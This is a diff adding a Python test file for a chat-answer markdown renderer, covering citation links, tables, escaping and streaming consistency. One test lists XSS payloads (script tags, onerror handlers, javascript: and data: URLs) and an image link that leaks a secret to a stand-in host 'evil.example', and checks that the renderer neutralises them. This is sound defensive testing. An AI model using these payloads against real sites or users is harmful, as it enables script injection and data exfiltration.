@@ -1,0 +1,118 @@
+"""Markdown of answers: safe, linked to its sources, and the same whether it streams or not."""
+
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from conversations.markdown import Context, Incremental, Marker, cited_numbers, render, render_inline
+
+CONTEXT = Context(
+    markers={1: Marker("/m/1/1", "Source 1"), 2: Marker("/m/1/2", "Source 2")},
+    trusted_text="see https://example.org/handbook for more",
+)
+
+
+def test_known_markers_become_superscript_links_and_others_stay_text() -> None:
+    html = render("Paid leave is 30 days [1], see also [2][7] and 【1】.", CONTEXT)
+    assert html.count('<sup class="citation">') == 3
+    assert 'href="/m/1/1" data-citation="1" aria-label="Source 1"' in html
+    assert "[7]" in html
+    assert "days<sup" in html
+
+
+def test_a_list_of_numbers_is_several_markers() -> None:
+    assert render("A [1, 2].", CONTEXT).count("data-citation") == 2
+    assert "[1, 9]" in render("A [1, 9].", CONTEXT)
+
+
+@pytest.mark.parametrize("text", ["`[1]`", "```\n[1]\n```", "    [1]"])
+def test_code_holds_no_markers(text: str) -> None:
+    assert "data-citation" not in render(text, CONTEXT)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "[x](javascript:alert(1))",
+        "[x](data:text/html,<script>alert(1)</script>)",
+        "![x](https://evil.example/leak?q=secret)",
+        "<https://evil.example/leak>",
+        '[x](https://evil.example "t")',
+        "a\n<style>*{display:none}</style>",
+        '```html" onmouseover="x\n<b>\n```',
+        "| a |\n|---|\n| <b onclick=x>y</b> |",
+        "[1]: https://evil.example\n\n[1]",
+    ],
+)
+def test_nothing_foreign_is_loaded_run_or_linked(text: str) -> None:
+    html = render(text, CONTEXT)
+    assert not re.search(r"<(script|style|img|iframe|b)\b", html)
+    assert not re.search(r"<[^>]*\son\w+\s*=", html)
+    assert not re.search(r'(href|src)="(?!/m/)', html)
+
+
+def test_links_of_the_sources_open_apart() -> None:
+    html = render("[the handbook](https://example.org/handbook)", CONTEXT)
+    assert 'href="https://example.org/handbook" rel="noopener nofollow" target="_blank"' in html
+
+
+def test_a_link_from_nowhere_shows_its_address() -> None:
+    assert render("[our bank](https://evil.example/)", CONTEXT) == "<p>our bank (https://evil.example/)</p>\n"
+
+
+def test_tables_scroll_and_align_by_class() -> None:
+    html = render("| a | b |\n|---|--:|\n| 1 | 2 |", CONTEXT)
+    assert '<div class="table-wrap"><table class="table">' in html
+    assert '<td class="align-right">2</td>' in html
+    assert "style=" not in html
+
+
+def test_cells_are_escaped_and_linked() -> None:
+    assert render_inline("<b> 3 [2]", CONTEXT) == (
+        '&lt;b&gt; 3<sup class="citation"><a href="/m/1/2" data-citation="2" aria-label="Source 2">2</a></sup>'
+    )
+
+
+def test_headings_stand_below_those_of_the_page() -> None:
+    assert render("# A\n\n###### B") == "<h3>A</h3>\n<h6>B</h6>\n"
+
+
+def test_cited_numbers_in_order() -> None:
+    assert cited_numbers("b [2] a [1,2] 【3】 [x] [4](y)") == [2, 1, 3]
+
+
+LINES = st.sampled_from(
+    [
+        "", "", "a paragraph [1]", "**bold", "closes** it", "# Heading", "## ", "- item", "  - nested", "* other",
+        "1. one", "2. two", "10) ten", "> quote", ">", "```", "```py", "~~~", "    indented", "| a | b |", "|---|:-:|",
+        "| 1 | 2 [2] |", "---", "===", "***", "[1]: https://x.example", "[1]", "<div>", "</div>", "text\\", "`code",
+        "&amp; <b>", "\tTab", "中文 [1]。", "第二句【2】", "+", "-", "  continued", "![p](q)", "[l](https://example.org/handbook)",
+    ]
+)  # fmt: skip
+
+
+@given(
+    st.lists(LINES, max_size=14), st.lists(st.integers(1, 7), min_size=1, max_size=8), st.sampled_from(["\n", "\r\n"])
+)
+@settings(max_examples=600, deadline=None)
+def test_streaming_ends_where_rendering_the_whole_does(lines: list[str], sizes: list[int], line_end: str) -> None:
+    text = line_end.join(lines)
+    stream = Incremental(CONTEXT)
+    html, position, turn = "", 0, 0
+    while position < len(text):
+        size = sizes[turn % len(sizes)]
+        html += stream.feed(text[position : position + size]).finished
+        position, turn = position + size, turn + 1
+    html += stream.close()
+    assert html == render(text, CONTEXT)
+
+
+def test_only_the_open_block_is_read_again() -> None:
+    stream = Incremental()
+    for number in range(2000):
+        stream.feed(f"Paragraph {number}.\n\n")
+    assert len(stream._tail) < 40
